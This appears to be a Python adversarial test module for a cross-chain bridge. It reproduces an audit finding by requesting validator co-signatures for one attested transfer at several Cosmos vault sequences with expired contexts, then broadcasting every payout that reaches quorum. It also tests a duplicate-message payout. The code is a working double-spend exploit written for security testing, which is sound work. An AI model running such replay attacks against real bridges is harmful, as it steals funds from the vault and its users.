"""Attacks on the co-signed Cosmos payout (finding 1 and its variations), run in the attacker's own process.

The attacker bridges its own TST from l1 to its own Cosmos account, waits until the validators attested the
message (their public checkpoint endpoints), then asks every validator's ``POST /validators/{address}/cosign``
to co-sign payouts of that one message at several vault sequences, built exactly as the relayer builds them
(``CosmosAdapter.cosign_request`` / ``CosignRequest.to_json``) from public data only, with a context whose
``expires_at`` is long past (what fooled the once-rule). It broadcasts every payout that got a quorum, in sequence
order, and reports what each validator answered and what landed.
"""

from __future__ import annotations

import asyncio
import time
from typing import Any

from adapters.base import AdapterError, CosignRefused, CosignRequest, TxNotFound
from adapters.message import MessageId, keccak256
from tests.adversarial.attacker import AttackerContext

ATTEST_TIMEOUT_S = 120.0
PAST = 1.0  # "expires_at": this request expired in 1970


async def _lock_to_own_cosmos_account(ctx: AttackerContext, amount: int) -> tuple[bytes, int]:
    """``amount`` of the attacker's l1 TST bridged to its own Cosmos account: (raw message, nonce), from the chain."""
    adapters = ctx.adapters()
    l1, cosmos = adapters["l1"], adapters["cosmos"]
    recipient = cosmos.account_bytes32(ctx.addresses["cosmos"])
    tx, mid = await l1.send_token(ctx.keys["evm"], "TST", amount, ctx.settings.chains["cosmos"].domain, recipient)
    height, ok = await l1.tx_result(tx)
    assert ok, f"lock tx {tx} failed"
    for found in await l1.fetch_dispatched(height, height):
        if found.id == mid:
            return found.raw, found.message.nonce
    raise AssertionError(f"message 0x{bytes(mid).hex()} not in block {height}")


async def _wait_attested(ctx: AttackerContext, origin: int, nonce: int) -> None:
    """Until a quorum of validators serves a checkpoint of ``origin`` at or past ``nonce`` (public endpoints)."""
    threshold = ctx.settings.security.threshold
    deadline = time.monotonic() + ATTEST_TIMEOUT_S
    while time.monotonic() < deadline:
        signed = 0
        for v in ctx.settings.security.validators:
            resp = await ctx.http.get(f"{v.url}/checkpoints/{origin}/latest")
            if resp.status_code == 200 and resp.json()["index"] >= nonce:
                signed += 1
        if signed >= threshold:
            return
        await asyncio.sleep(0.5)
    raise AssertionError(f"nonce {nonce} of origin {origin} not attested within {ATTEST_TIMEOUT_S}s")


def _at_sequence(cosmos: Any, request: CosignRequest, sequence: int) -> CosignRequest:
    """The same payout at another vault sequence (the relayer's build, another context), expiry long past."""
    context = dict(request.context, sequence=str(sequence), expires_at=str(PAST))
    plan = cosmos._plan_from_request(CosignRequest(request.chain, b"", request.messages, context), CosignRefused)
    return CosignRequest(request.chain, plan.sign_bytes(), request.messages, context)


async def _ask_everyone(ctx: AttackerContext, request: CosignRequest) -> dict[str, Any]:
    """Every validator's answer: signatures gathered, refusal reasons."""
    signatures: list[tuple[str, bytes]] = []
    refusals: list[str] = []
    for v in ctx.settings.security.validators:
        resp = await ctx.http.post(f"{v.url}/cosign", json=request.to_json(), auth=ctx.relayer_auth)
        if resp.status_code == 200:
            doc = resp.json()
            signatures.append((str(doc["signer"]), bytes.fromhex(str(doc["signature"]))))
        else:
            detail = resp.json().get("detail")
            refusals.append(f"{resp.status_code} {detail.get('reason') if isinstance(detail, dict) else detail}")
    return {"signatures": signatures, "refusals": refusals}


async def _broadcast(ctx: AttackerContext, request: CosignRequest, signatures: list[tuple[str, bytes]]) -> str:
    """Submit a co-signed payout and wait until it is in a block: "landed", "failed" or the broadcast error."""
    cosmos = ctx.adapters()["cosmos"]
    try:
        sent = await cosmos.submit_cosigned(request, signatures)
    except AdapterError as exc:  # what the chain said is the result
        return f"refused: {getattr(exc, 'reason', '')}: {str(exc)[:200]}"
    deadline = time.monotonic() + 30
    while time.monotonic() < deadline:
        try:
            _height, ok = await cosmos.tx_result(sent.tx_hash)
            return "landed" if ok else "failed"
        except TxNotFound:
            await asyncio.sleep(0.3)
    return "not included"


async def _vault_sequence(ctx: AttackerContext) -> int:
    cosmos = ctx.settings.chains["cosmos"]
    resp = await ctx.http.get(f"{cosmos.rest_url}/cosmos/auth/v1beta1/accounts/{cosmos.vault}")  # type: ignore[union-attr]
    return int(resp.json()["account"]["sequence"])


async def _try_sequences(ctx: AttackerContext, raws: list[bytes], sequences: int) -> list[dict[str, Any]]:
    """Ask for the payout of ``raws`` at the vault's current sequence and the next ones, then broadcast in order
    every one that got a quorum."""
    cosmos = ctx.adapters()["cosmos"]
    threshold = ctx.settings.chains["cosmos"].multisig_threshold  # type: ignore[union-attr]
    base = await cosmos.cosign_request(raws)
    start = int(base.context["sequence"])
    tries = []
    for k in range(sequences):
        request = _at_sequence(cosmos, base, start + k)
        answer = await _ask_everyone(ctx, request)
        tries.append({"sequence": start + k, "request": request, **answer})
    for t in tries:
        t["result"] = (await _broadcast(ctx, t["request"], t["signatures"]) if len(t["signatures"]) >= threshold
                       else None)
    return [{"sequence": t["sequence"], "signed": len(t["signatures"]), "refusals": t["refusals"],
             "result": t["result"]} for t in tries]


async def finding_1(ctx: AttackerContext, amount: int, sequences: int = 3) -> dict[str, Any]:
    """One attested l1 -> Cosmos message, payouts asked at vault sequences s, s+1, s+2 (expired contexts), all
    broadcast; then, once it was paid, asked again at the vault's new sequence."""
    raw, nonce = await _lock_to_own_cosmos_account(ctx, amount)
    await _wait_attested(ctx, ctx.settings.chains["l1"].domain, nonce)
    tries = await _try_sequences(ctx, [raw], sequences)
    again = await _try_sequences(ctx, [raw], 1)
    delivered = await ctx.adapters()["cosmos"].delivered([MessageId(_id(raw))])
    return {"nonce": nonce, "id": "0x" + _id(raw).hex(), "tries": tries, "after_paid": again, "delivered": delivered,
            "vault_sequence": await _vault_sequence(ctx)}


async def room_of_others(ctx: AttackerContext, amounts: list[int]) -> dict[str, Any]:
    """Two attested messages (the second one's amount is room the accountant has for this token on Cosmos): the
    first paid at s and again at s+1 (the room would cover it), and the second listed twice in one payout. The
    second message is left for the relayer."""
    (raw1, _n1), (raw2, nonce2) = [await _lock_to_own_cosmos_account(ctx, a) for a in amounts]
    await _wait_attested(ctx, ctx.settings.chains["l1"].domain, nonce2)
    cosmos = ctx.adapters()["cosmos"]
    double = await _ask_everyone(ctx, _at_sequence(cosmos, await cosmos.cosign_request([raw2, raw2]),
                                                   await _vault_sequence(ctx) + 1))
    tries = await _try_sequences(ctx, [raw1], 2)
    return {"ids": ["0x" + _id(raw1).hex(), "0x" + _id(raw2).hex()], "tries": tries,
            "duplicate": {"signed": len(double["signatures"]), "refusals": double["refusals"]}}


def _id(raw: bytes) -> bytes:
    return keccak256(raw)
